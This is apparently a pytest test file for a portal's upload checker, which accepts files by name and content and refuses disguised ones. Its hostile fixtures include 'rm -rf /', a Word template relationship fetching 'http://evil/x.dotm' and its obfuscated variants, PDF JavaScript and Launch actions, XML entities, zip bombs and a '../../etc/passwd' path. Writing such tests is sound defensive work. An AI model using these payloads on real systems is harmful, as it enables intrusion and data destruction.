"""What may be uploaded is told by name and content together, and what hides something is refused with its reason."""

import io
import random
import time
from collections.abc import Callable

import pytest

from portal.lib import file_office
from portal.lib.file_kinds import KINDS, FileRefused, file_kind
from portal.lib.stored import file_name_shown
from tests.engagements.files import jpeg, office, pdf, png, webp

WHOLE = {
    "report.pdf": pdf(),
    "screen.PNG": png(),
    "photo.jpg": jpeg(),
    "photo.jpeg": jpeg() + b"SEFT of a phone's camera",
    "shot.webp": webp(),
    "bridge.csv": "Kündigung;Betrag\nMüller;12,50\n".encode("cp1252"),
    "wide.csv": "month\tarr\n".encode("utf-16"),
    "notes.md": b"# Notes\n\nThe `<script>` tag is mentioned here.\n",
    "notes.txt": b"\xef\xbb\xbfplain\n",
    "book.xlsx": office("xlsx"),
    "spec.docx": office("docx", {"docProps/app.xml": b"<a/>"}),
    "deck.pptx": office("pptx", {"ppt/embeddings/Sheet1.xlsx": office("xlsx")}),
}


def kind_of(name: str, content: bytes) -> str:
    return file_kind(name, io.BytesIO(content)).content_type


@pytest.mark.parametrize("name", WHOLE)
def test_a_whole_file_of_each_kind_is_taken(name: str) -> None:
    assert kind_of(name, WHOLE[name]) == KINDS[name.rsplit(".")[-1].lower()].content_type


def test_no_kind_is_one_that_a_browser_runs() -> None:
    types = " ".join(kind.content_type for kind in KINDS.values())
    assert not any(word in types for word in ("svg", "html", "javascript", "xml ", "octet"))


@pytest.mark.parametrize("name", WHOLE)
def test_no_file_passes_under_the_name_of_another_kind(name: str) -> None:
    own = name.rsplit(".")[-1].lower()
    family = {"jpg": {"jpg", "jpeg"}, "jpeg": {"jpg", "jpeg"}}.get(own, {own})
    if own in {"csv", "md", "txt"}:
        family = {"csv", "md", "txt"}
    for ending in KINDS.keys() - family:
        with pytest.raises(FileRefused):
            file_kind(f"a.{ending}", io.BytesIO(WHOLE[name]))


TEMPLATE = b'<Relationship TargetMode="External" Type="http://schemas/relationships/attachedTemplate" Target="http://evil/x.dotm"/>'
HIDINGS: dict[str, Callable[[bytes], bytes]] = {
    "far behind": lambda text: b" " * 300_000 + text,
    "in wide letters": lambda text: text.decode().encode("utf-16"),
    "with letters as numbers": lambda text: text.replace(b"External", b"Extern&#97;l"),
    "under a prefix": lambda text: text.replace(b"<Rel", b"<r:Rel"),
    "behind a bracket": lambda text: text.replace(b" Type", b' Id="a>b" Type'),
}
HOSTILE = {
    "an ending that is not on the list": ("page.svg", b"<svg/>", "'.svg', which is not accepted"),
    "no ending": ("README", b"text", "not accepted"),
    "a second ending": ("invoice.pdf.exe", pdf(), "'.exe'"),
    "no bytes": ("a.csv", b"", "empty"),
    "only blanks": ("a.txt", b" \n\n", "empty"),
    "NUL bytes": ("a.csv", b"month,arr\0\n", "NUL"),
    "control characters": ("a.txt", b"\x1b]0;title\x07", "control characters"),
    "a program": ("a.txt", b"MZ\x90\0\x03\0\0\0", "NUL"),
    "a script for a shell": ("a.txt", b"#!/bin/sh\nrm -rf /\n", "a program"),
    "a web page as text": ("a.csv", b"\xef\xbb\xbf \n<!DOCTYPE html><script>alert(1)</script>", "a page or a program"),
    "a drawing as a picture": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "web page"),
    "a picture of sixteen thousand million pixels": ("a.png", png(120_000, 120_000), "make it smaller"),
    "a picture with an archive behind it": ("a.png", png(behind=office()), "archive as well"),
    "a picture with a program behind it": ("a.png", png(behind=b"MZ"), "behind the end"),
    "half a picture": ("a.png", png()[:40], "cut off"),
    "a photo with a page in its comment": ("a.jpg", jpeg().replace(b"\x00\x00\xff\xc0", b"<script>\xff\xc0"), "web page"),
    "a photo that says no size": ("a.jpg", b"\xff\xd8\xff\xe0\x00\x02\xff\xd9", "no size"),
    "a container longer than it says": ("a.webp", webp() + b"more", "behind its end"),
    "a paper that runs a script": ("a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (x) >>"), "active content"),
    "a paper that hides a script": ("a.pdf", pdf(b"/S /J#61vaScrip#74 /JS (x)"), "active content"),
    "a paper that starts a program": ("a.pdf", pdf(b"/S /Launch"), "active content"),
    "a paper that is an archive": ("a.pdf", pdf() + office(), "not that of a whole PDF|archive as well"),
    "half a paper": ("a.pdf", pdf()[:40], "not that of a whole PDF"),
    "any archive": ("a.xlsx", office().replace(b"workbook", b"notebook"), "not that of a XLSX"),
    "macros": ("a.xlsx", office(more={"xl/vbaProject.bin": b"x"}), "macros"),
    "a workbook with macros under another name": (
        "a.xlsx", office(types="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "without macros",
    ),
    "a program inside": ("a.docx", office("docx", {"word/run.exe": b"MZ"}), "programs"),
    "an object of another program": ("a.docx", office("docx", {"word/embeddings/oleObject1.bin": b"x"}), "objects"),
    "a path inside": ("a.docx", office("docx", {"../../etc/passwd": b"x"}), "a path as its name"),
    "the same part twice": ("a.docx", office("docx", {"WORD/document.xml": b"x"}), "same name"),
    "entities": ("a.docx", office("docx", {"word/x.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]>"}), "entities"),
    "a template from elsewhere": (
        "a.docx",
        office("docx", {"word/_rels/settings.xml.rels": b'<Relationship TargetMode="External" '
               b'Type="http://schemas/relationships/attachedTemplate" Target="http://evil/x.dotm"/>'}),
        "from elsewhere",
    ),
    "entities behind a long comment": (
        "a.docx", office("docx", {"word/x.xml": b"<!--" + b"x" * 300_000 + b"--><!DOCTYPE a>"}), "entities",
    ),
    "entities in wide letters": ("a.docx", office("docx", {"word/x.xml": "<!DOCTYPE a>".encode("utf-16")}), "entities"),
    **{
        f"a template from elsewhere, {how}": (
            "a.docx", office("docx", {"word/_rels/settings.xml.rels": change(TEMPLATE)}), "from elsewhere",
        )
        for how, change in HIDINGS.items()
    },
    "a great many references": (
        "a.docx", office("docx", {"word/_rels/a.xml.rels": b"<Relationship " * 150_000}), "too many other parts",
    ),
    "two documents in one": ("a.docx", office("docx", {"xl/workbook.xml": b"x"}), "not that of a DOCX"),
    "something before the archive": ("a.xlsx", b"#!/bin/sh\n" + office(), "before or behind"),
    "something behind the archive": ("a.xlsx", office() + b"<script>", "before or behind"),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_what_hides_something_is_refused_with_its_reason(what: str) -> None:
    name, content, reason = HOSTILE[what]
    with pytest.raises(FileRefused, match=reason):
        file_kind(name, io.BytesIO(content))


def test_what_is_written_to_take_long_is_looked_at_soon() -> None:
    begin = time.process_time()
    rels = {f"word/_rels/{n}.xml.rels": b"<Relationship " * 18_000 for n in range(4)}
    file_kind("a.docx", io.BytesIO(office("docx", rels | {"word/media/a.png": random.Random(1).randbytes(60_000)})))
    with pytest.raises(FileRefused, match="no size"):
        file_kind("a.jpg", io.BytesIO(b"\xff\xd8" + b"\xff" * 5_000_000 + b"\xff\xd9"))
    assert time.process_time() - begin < 1


def test_a_bomb_is_refused_by_what_it_unpacks_to_and_soon() -> None:
    begin = time.process_time()
    with pytest.raises(FileRefused, match="unpacks to far more"):
        file_kind("a.xlsx", io.BytesIO(office(more={"xl/a.xml": bytes(100_000_000)})))
    with pytest.raises(FileRefused, match="unpacks to far more"):
        file_kind("a.xlsx", io.BytesIO(office(more={f"xl/{n}.xml": bytes(20_000_000) for n in range(8)})))
    assert time.process_time() - begin < 4


def test_an_archive_that_lies_about_its_sizes_is_refused() -> None:
    content = office(more={"xl/a.xml": bytes(1_000_000)})
    lying = content.replace((1_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little"))
    assert lying != content
    with pytest.raises(FileRefused, match="damaged"):
        file_kind("a.xlsx", io.BytesIO(lying))


def test_an_archive_of_very_many_parts_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(file_office, "MOST_ENTRIES", 3)
    with pytest.raises(FileRefused, match="too many parts"):
        file_kind("a.xlsx", io.BytesIO(office(more={"xl/1.xml": b"<a/>", "xl/2.xml": b"<a/>"})))


def test_a_name_is_shown_without_its_path_and_without_marks() -> None:
    assert file_name_shown("../../etc/passwd") == "passwd"
    assert file_name_shown("C:\\Users\\x\\report\u202efdp.exe") == "reportfdp.exe"
    assert file_name_shown("a\0b\r\n.csv") == "ab.csv" and file_name_shown("//") == "unnamed file"
